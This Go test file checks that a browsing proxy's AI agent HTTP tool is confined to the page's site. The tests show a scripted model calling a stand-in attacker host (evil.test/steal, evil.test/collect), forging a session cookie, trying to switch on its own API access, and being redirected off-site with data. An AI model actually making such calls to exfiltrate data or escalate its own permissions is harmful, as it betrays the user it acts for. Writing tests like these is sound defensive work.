package proxy

import (
	"context"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/remixproxy/remixproxy/proxy/chat"
)

// http_request and the API access switch (chat_request.go), end to end below the browser, in
// the style of chat_test.go: the site records what reaches it.

// siteLog records the requests the test site got, other than page loads.
type siteLog struct {
	mu   sync.Mutex
	reqs []string // "METHOD host path cookie=… body=…"
}

func (l *siteLog) add(s string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.reqs = append(l.reqs, s)
}

func (l *siteLog) all() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return strings.Join(l.reqs, "\n")
}

// apiSite is example.com: its page sets a session cookie; /api/cart answers JSON, /api/out
// redirects to another site, and /api/redirect/CODE answers with that redirect status to the
// ?to= address (or ?tox=, its hex; default /api/moved). api.example.com is the same server.
func apiSite(log *siteLog) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/" {
			w.Header().Set("Set-Cookie", "sid=person-session; Domain=example.com; Path=/; Secure; HttpOnly")
			htmlHandler(`<!doctype html><title>Shop</title><p>cart</p>`).ServeHTTP(w, r)
			return
		}
		body, _ := io.ReadAll(r.Body)
		c, _ := r.Cookie("sid")
		cookie := ""
		if c != nil {
			cookie = c.Value
		}
		log.add(fmt.Sprintf("%s %s %s cookie=%s body=%s", r.Method, r.Host, r.URL.Path, cookie, body))
		switch r.URL.Path {
		case "/api/out":
			http.Redirect(w, r, "https://evil.test/collect", http.StatusFound)
		case "/api/redirect/301", "/api/redirect/302", "/api/redirect/303", "/api/redirect/307", "/api/redirect/308":
			to := r.URL.Query().Get("to")
			if b, err := hex.DecodeString(r.URL.Query().Get("tox")); err == nil && len(b) > 0 {
				to = string(b) // the site's own encoding, which no reading of the query sees
			}
			if to == "" {
				to = "/api/moved"
			}
			code, _ := strconv.Atoi(strings.TrimPrefix(r.URL.Path, "/api/redirect/"))
			w.Header().Set("Location", to)
			w.WriteHeader(code)
		default:
			w.Header().Set("Content-Type", "application/json")
			w.Header().Set("X-Secret-Internal", "not for the model")
			fmt.Fprintf(w, `{"items":[{"sku":"socks"}],"method":%q}`, r.Method)
		}
	})
}

// newRequestFixture is newChatFixture with apiSite as example.com and api.example.com.
func newRequestFixture(t *testing.T, script string, log *siteLog) *chatFixture {
	t.Helper()
	return newChatFixtureWith(t, script, chatOptions{site: apiSite(log), alsoHosts: []string{"api." + chatSite}})
}

// actMode switches the fixture's chat to Act and waits until the panel is told.
func (cf *chatFixture) actMode(t *testing.T) {
	t.Helper()
	cf.say(t, map[string]string{"type": "mode", "mode": "act"})
	cf.waitState(t, "Act mode", func(c map[string]any) bool { return c["mode"] == "act" })
}

// waitState waits for a chat state for which ok is true.
func (cf *chatFixture) waitState(t *testing.T, what string, ok func(map[string]any) bool) {
	t.Helper()
	timeout := time.After(15 * time.Second)
	for {
		select {
		case m := <-cf.states:
			if ok(m["chat"].(map[string]any)) {
				return
			}
		case <-timeout:
			t.Fatalf("no chat state: %s", what)
		}
	}
}

func resultOf(it map[string]any) string { return fmt.Sprint(it["result"]) }

// TestChatRequestGET: GET and HEAD go without a card, as the person (their cookie), to the
// page's site including its subdomains; another site, a redirect to one, and Ask mode are
// refused before anything reaches them.
func TestChatRequestGET(t *testing.T) {
	log := &siteLog{}
	cf := newRequestFixture(t, `{"turns": [
		{"tool_calls": [{"name": "http_request", "arguments": {"method": "GET", "url": "/api/cart?page=1"}}]},
		{"tool_calls": [{"name": "http_request", "arguments": {"method": "GET", "url": "https://api.example.com/api/me"}}]},
		{"tool_calls": [{"name": "http_request", "arguments": {"method": "GET", "url": "https://evil.test/steal"}}]},
		{"tool_calls": [{"name": "http_request", "arguments": {"method": "GET", "url": "http://example.com/api/cart"}}]},
		{"tool_calls": [{"name": "http_request", "arguments": {"method": "GET", "url": "https://remix.proxy/manager"}}]},
		{"tool_calls": [{"name": "http_request", "arguments": {"method": "GET", "url": "/api/out"}}]},
		{"tool_calls": [{"name": "http_request", "arguments": {"method": "GET", "url": "/api/cart", "headers": {"Cookie": "sid=forged"}}}]},
		{"text": "read"}
	]}`, log)
	cf.actMode(t)
	cf.say(t, map[string]string{"type": "send", "text": "what is in my cart?"})
	var results []map[string]any
	for i := 0; i < 7; i++ {
		results = append(results, cf.waitItem(t, fmt.Sprintf("http_request %d done", i+1), toolDone("http_request")))
	}
	cf.waitIdle(t)
	if r := results[0]; r["status"] != "ok" || !strings.Contains(resultOf(r), "HTTP 200") || !strings.Contains(resultOf(r), `"sku":"socks"`) ||
		!strings.Contains(resultOf(r), "content-type: application/json") || strings.Contains(resultOf(r), "not for the model") {
		t.Errorf("GET /api/cart = %v", r)
	}
	if r := results[1]; r["status"] != "ok" || !strings.Contains(resultOf(r), "HTTP 200") {
		t.Errorf("GET api.example.com = %v", r)
	}
	for i, want := range []string{
		2: "https://evil.test is not on this page's site",
		3: "http://example.com is not on this page's site",
		4: "the proxy's own host",
		5: "redirect from example.com refused",
		6: "header Cookie may not be set",
	} {
		if i < 2 {
			continue
		}
		if r := results[i]; r["status"] != "error" || !strings.Contains(resultOf(r), want) {
			t.Errorf("request %d = %v, want an error with %q", i+1, r["result"], want)
		}
	}
	got := log.all()
	for _, want := range []string{"GET example.com /api/cart cookie=person-session", "GET api.example.com /api/me cookie=person-session", "GET example.com /api/out"} {
		if !strings.Contains(got, want) {
			t.Errorf("the site did not get %q; it got:\n%s", want, got)
		}
	}
	if strings.Contains(got, "forged") || strings.Count(got, "\n") != 2 {
		t.Errorf("the site got:\n%s", got)
	}
	if strings.Contains(cf.raw.String(), `"card":"request"`) {
		t.Error("a GET showed a card")
	}
}

// TestChatRequestMutating: POST is refused while API access is off; the model cannot turn it
// on; with the person's switch on, each POST waits on a card: "Not now" sends nothing, Allow
// from the confirmation window sends it as the person. The switch is kept with the chat.
func TestChatRequestMutating(t *testing.T) {
	log := &siteLog{}
	post := `{"name": "http_request", "arguments": {"method": "POST", "url": "/api/cart", "headers": {"Content-Type": "application/json"}, "body": "{\"sku\":\"socks\",\"qty\":2}"}}`
	cf := newRequestFixture(t, `{"turns": [
		{"tool_calls": [`+post+`]},
		{"tool_calls": [{"name": "set_api_access", "arguments": {"on": true}}]},
		{"tool_calls": [`+post+`]},
		{"text": "I cannot."},
		{"tool_calls": [`+post+`]},
		{"tool_calls": [`+post+`]},
		{"text": "added"}
	]}`, log)
	cf.actMode(t)
	cf.say(t, map[string]string{"type": "send", "text": "add socks"})
	r := cf.waitItem(t, "the first POST", toolDone("http_request"))
	if r["status"] != "error" || !strings.Contains(resultOf(r), "needs API access, which is off") {
		t.Errorf("POST with API access off = %v", r["result"])
	}
	if r := cf.waitItem(t, "set_api_access", toolDone("set_api_access")); !strings.Contains(resultOf(r), `there is no tool "set_api_access"`) {
		t.Errorf("set_api_access = %v", r["result"])
	}
	if r := cf.waitItem(t, "the second POST", toolDone("http_request")); !strings.Contains(resultOf(r), "needs API access") {
		t.Errorf("POST after the model's attempt = %v", r["result"])
	}
	cf.waitIdle(t)
	if strings.Contains(log.all(), "POST") {
		t.Fatalf("a POST reached the site:\n%s", log.all())
	}

	cf.say(t, map[string]any{"type": "api", "on": true})
	cf.waitState(t, "API access on", func(c map[string]any) bool { return c["apiAccess"] == true })
	cf.say(t, map[string]string{"type": "send", "text": "now add them"})
	card := cf.waitItem(t, "a request card", func(it map[string]any) bool { return it["kind"] == "card" && it["state"] == "pending" })
	if card["card"] != "request" || card["title"] != "Send a POST request to example.com/api/cart" ||
		card["data"] != `{"sku":"socks","qty":2}` || card["allow"] != "Send" || card["deny"] != "Not now" ||
		!strings.Contains(fmt.Sprint(card["rows"]), "Body: 23 bytes, application/json") {
		t.Errorf("card = %v", card)
	}
	time.Sleep(chat.CardArmAfter)
	cf.say(t, map[string]any{"type": "decide", "id": card["id"], "allow": false})
	if r := cf.waitItem(t, "the refused POST", toolDone("http_request")); r["status"] != "error" || !strings.Contains(resultOf(r), "Not now") {
		t.Errorf("POST after Not now = %v", r["result"])
	}
	if strings.Contains(log.all(), "POST") {
		t.Fatalf("a POST reached the site after Not now:\n%s", log.all())
	}
	card = cf.waitItem(t, "a second request card", func(it map[string]any) bool { return it["kind"] == "card" && it["state"] == "pending" })
	// The framed panel cannot allow it.
	time.Sleep(chat.CardArmAfter)
	cf.say(t, map[string]any{"type": "decide", "id": card["id"], "allow": true})
	if e := <-cf.errs; !strings.Contains(e, "confirmed in the remixproxy window") {
		t.Errorf("allow from the framed panel: %q", e)
	}
	cf.confirm(t, card["id"], true)
	r = cf.waitItem(t, "the sent POST", toolDone("http_request"))
	if r["status"] != "ok" || !strings.Contains(resultOf(r), "HTTP 200") || !strings.Contains(resultOf(r), `"method":"POST"`) {
		t.Errorf("allowed POST = %v", r["result"])
	}
	cf.waitIdle(t)
	if got := log.all(); strings.Count(got, "POST") != 1 || !strings.Contains(got, `POST example.com /api/cart cookie=person-session body={"sku":"socks","qty":2}`) {
		t.Errorf("the site got:\n%s", got)
	}
	// The switch is stored with the chat.
	if got := storedSwitch(t, cf.st, "api-access"); got != "on" {
		t.Errorf("the stored API access switch = %q, want on", got)
	}
	reqs := cf.model.Requests()
	if !strings.Contains(reqs[0].System, "API access is off") || !strings.Contains(reqs[len(reqs)-1].System, "API access is on") {
		t.Error("the system prompt does not follow the API access switch")
	}
	cf.say(t, map[string]any{"type": "api", "on": false})
	cf.waitState(t, "API access off", func(c map[string]any) bool { return c["apiAccess"] == false })
}

// TestChatAPIAccessKept: the switch turned on before the first message is stored with the chat
// when the chat is created, and a reloaded tab that resumes the chat has it on; a new chat
// starts with it off.
func TestChatAPIAccessKept(t *testing.T) {
	cf := newChatFixture(t, `{"turns": [{"text": "First answer."}]}`)
	cf.say(t, map[string]any{"type": "api", "on": true})
	cf.waitState(t, "API access on", func(c map[string]any) bool { return c["apiAccess"] == true })
	cf.say(t, map[string]string{"type": "send", "text": "first question"})
	cf.waitItem(t, "the answer", func(it map[string]any) bool { return strings.Contains(textOf(it), "First answer.") })
	cf.waitIdle(t)
	chats, _ := cf.st.ListChats(context.Background(), 5)
	if len(chats) != 1 {
		t.Fatalf("chats = %+v", chats)
	}
	cf.closePage(t, "reload")
	again := &chatFixture{fixture: cf.fixture, st: cf.st, model: cf.model, dir: cf.dir, logs: cf.logs, raw: &syncBuffer{},
		items: make(chan map[string]any, 100), errs: make(chan string, 100), states: make(chan map[string]any, 100)}
	again.connectPage(t)
	again.say(t, map[string]string{"type": "resume", "chat": chats[0].ID})
	again.waitState(t, "the resumed chat with API access on", func(c map[string]any) bool { return c["id"] == chats[0].ID && c["apiAccess"] == true })
	again.say(t, map[string]string{"type": "new"})
	again.waitState(t, "a new chat with API access off", func(c map[string]any) bool { return c["id"] == "" && c["apiAccess"] == false })
}

// TestChatRequestRedirects: a mutating request the person allowed goes once, to the address on
// its card. A redirect that would send the method and body again (307, 308; 301 and 302 after
// PUT, PATCH or DELETE) is not followed: the model gets the status, the Location and a note,
// and nothing reaches the new address. One that turns it into a GET without the body (303; 301
// and 302 after POST) is followed as a GET. A GET's redirects are followed as before. The
// site is the witness: it records every request with its method and body.
func TestChatRequestRedirects(t *testing.T) {
	log := &siteLog{}
	call := func(method, url, body string) string {
		b := ""
		if body != "" {
			b = fmt.Sprintf(`, "headers": {"Content-Type": "application/json"}, "body": %q`, body)
		}
		return fmt.Sprintf(`{"tool_calls": [{"name": "http_request", "arguments": {"method": %q, "url": %q%s}}]}`, method, url, b)
	}
	type step struct {
		method, url, body string
		card              bool     // a mutating request: waits for the person's Allow
		want              []string // in the result
	}
	notFollowed := []string{"Redirect not followed", "nothing was sent there", "location: "}
	steps := []step{
		{"POST", "/api/redirect/307", `{"sku":"socks","qty":7}`, true,
			append([]string{"HTTP 307", "send the same POST with its body to https://example.com/api/moved", "call http_request again with that address; the person decides on a new card"}, notFollowed...)},
		{"PUT", "/api/redirect/308?to=https://api.example.com/api/moved", `{"sku":"hat"}`, true,
			append([]string{"HTTP 308", "to https://api.example.com/api/moved"}, notFollowed...)},
		{"DELETE", "/api/redirect/302", "", true, append([]string{"HTTP 302", "send the same DELETE to"}, notFollowed...)},
		{"PATCH", "/api/redirect/301", `{"qty":0}`, true, append([]string{"HTTP 301", "send the same PATCH with its body"}, notFollowed...)},
		{"POST", "/api/redirect/307?tox=" + hex.EncodeToString([]byte("https://evil.test/collect")), `{"card":"4242"}`, true,
			append([]string{"HTTP 307", "That address cannot be requested", "not on this page's site"}, notFollowed...)},
		{"POST", "/api/redirect/303?to=/api/done", `{"order":1}`, true,
			[]string{"answered with 303 See Other", "with a GET, without the body", "HTTP 200 OK (GET https://example.com/api/done)", `"method":"GET"`, "(after redirects)"}},
		{"POST", "/api/redirect/302", `{"order":2}`, true, []string{"answered with 302 Found", "HTTP 200 OK (GET https://example.com/api/moved)", `"method":"GET"`}},
		{"POST", "/api/redirect/303?tox=" + hex.EncodeToString([]byte("https://evil.test/collect")), `{"order":3}`, true,
			[]string{"The POST was sent once and answered with 303 See Other; its redirect to https://evil.test/collect was not followed", "HTTP 303", "location: https://evil.test/collect"}},
		{"GET", "/api/redirect/307?to=/api/after-get", "", false, []string{"HTTP 200", `"method":"GET"`, "(after redirects)"}},
	}
	var turns []string
	for _, st := range steps {
		turns = append(turns, call(st.method, st.url, st.body))
	}
	turns = append(turns, `{"text": "done"}`)
	cf := newRequestFixture(t, `{"turns": [`+strings.Join(turns, ",")+`]}`, log)
	cf.actMode(t)
	cf.say(t, map[string]any{"type": "api", "on": true})
	cf.waitState(t, "API access on", func(c map[string]any) bool { return c["apiAccess"] == true })
	cf.say(t, map[string]string{"type": "send", "text": "place the order"})
	for i, st := range steps {
		if st.card {
			card := cf.waitItem(t, fmt.Sprintf("the card of request %d", i+1), func(it map[string]any) bool { return it["kind"] == "card" && it["state"] == "pending" })
			time.Sleep(chat.CardArmAfter)
			cf.confirm(t, card["id"], true)
		}
		r := cf.waitItem(t, fmt.Sprintf("request %d done", i+1), toolDone("http_request"))
		for _, want := range st.want {
			if r["status"] != "ok" || !strings.Contains(resultOf(r), want) {
				t.Errorf("%s %s: result lacks %q:\n%v", st.method, st.url, want, r["result"])
			}
		}
	}
	cf.waitIdle(t)

	// What reached the site: every request once, at the address on its card; the moved-to
	// addresses got only the GETs, without a body.
	got := log.all()
	lines := strings.Split(got, "\n")
	want := []string{
		`POST example.com /api/redirect/307 cookie=person-session body={"sku":"socks","qty":7}`,
		`PUT example.com /api/redirect/308 cookie=person-session body={"sku":"hat"}`,
		`DELETE example.com /api/redirect/302 cookie=person-session body=`,
		`PATCH example.com /api/redirect/301 cookie=person-session body={"qty":0}`,
		`POST example.com /api/redirect/307 cookie=person-session body={"card":"4242"}`,
		`POST example.com /api/redirect/303 cookie=person-session body={"order":1}`,
		`GET example.com /api/done cookie=person-session body=`,
		`POST example.com /api/redirect/302 cookie=person-session body={"order":2}`,
		`GET example.com /api/moved cookie=person-session body=`,
		`POST example.com /api/redirect/303 cookie=person-session body={"order":3}`,
		`GET example.com /api/redirect/307 cookie=person-session body=`,
		`GET example.com /api/after-get cookie=person-session body=`,
	}
	if strings.Join(lines, "\n") != strings.Join(want, "\n") {
		t.Errorf("the site got:\n%s\nwant:\n%s", got, strings.Join(want, "\n"))
	}
	bodies := 0
	for _, l := range lines {
		if !strings.HasSuffix(l, "body=") {
			bodies++
			if !strings.Contains(l, " /api/redirect/") {
				t.Errorf("a body reached an address the person did not allow: %s", l)
			}
		}
	}
	if bodies != 7 {
		t.Errorf("the site got %d bodies, want 7 (one per allowed request with a body):\n%s", bodies, got)
	}
	if n := strings.Count(cf.raw.String(), `"card":"request"`); n == 0 {
		t.Error("no request card was shown")
	}
}
